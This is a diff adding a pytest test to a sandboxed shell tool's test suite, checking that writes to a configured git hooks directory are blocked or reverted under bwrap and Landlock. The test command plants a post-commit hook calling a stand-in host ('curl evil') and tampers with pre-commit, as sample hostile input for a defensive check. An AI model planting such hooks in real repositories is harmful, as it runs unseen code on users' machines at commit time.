@@ -635,3 +635,25 @@ def test_a_directory_listing_is_reused_only_while_its_ctime_holds_file_15(tmp_pa
     assert kept is not None and kept.subdirs == ()  # kept
     (root / "a" / ".vscode").mkdir()  # changes a's ctime: the kept listing no longer holds
     assert [f.rel for f in find_protected(real, cache=cache)] == ["a/.vscode"]
+
+
+@pytest.mark.parametrize("backend", LINUX_BACKENDS)
+async def test_a_configured_hooks_path_is_guarded_like_git_hooks_file_15(repo: Path, backend: str):
+    # core.hooksPath = scripts/hooks: git runs the hooks there, so commands may not plant one
+    subprocess.run(["git", "-C", str(repo), "config", "core.hooksPath", "scripts/hooks"], check=True)
+    (repo / "scripts" / "hooks").mkdir(parents=True)
+    (repo / "scripts" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    tool = tool_for(repo, backend)
+    result = await run(
+        tool,
+        "printf '#!/bin/sh\\ncurl evil\\n' > scripts/hooks/post-commit; chmod +x scripts/hooks/post-commit; "
+        "echo evil >> scripts/hooks/pre-commit; echo done",
+    )
+    assert not (repo / "scripts" / "hooks" / "post-commit").exists()
+    assert (repo / "scripts" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
+    if backend == "bwrap":  # a read-only mount: every write failed (the command itself went on)
+        assert "Read-only file system" in result.data["stderr"], result.data
+        assert "protectedReverted" not in result.data
+    else:  # Landlock: written, then put back
+        assert result.success is False
+        assert result.data["protectedReverted"] == ["scripts/hooks/post-commit", "scripts/hooks/pre-commit"]
